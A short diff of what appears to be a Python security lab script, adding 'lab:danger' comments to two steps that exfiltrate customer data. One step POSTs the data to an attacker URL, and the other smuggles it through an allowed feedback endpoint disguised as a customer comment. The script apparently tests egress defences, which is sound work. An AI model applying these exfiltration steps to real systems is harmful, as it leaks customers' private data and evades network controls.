@@ -46,6 +46,7 @@ def main():
     print(f"read {len(body)} bytes of customer data", flush=True)
 
     print(f"1. POST {attacker}", flush=True)
+    # lab:danger: the customer data, straight to the attacker
     ok, how = send(urllib.request.Request(
         attacker, data=body, method="POST",
         headers={"Content-Type": "text/csv"}))
@@ -58,6 +59,7 @@ def main():
 
     url = api + "feedback"
     print(f"2. POST {url} (the data dressed up as feedback)", flush=True)
+    # lab:danger: the same data, smuggled out through the allowed host
     ok, how = send(urllib.request.Request(
         url, data=b"Great service! Attached our notes:\n" + body,
         method="POST", headers={"Content-Type": "text/plain"}))
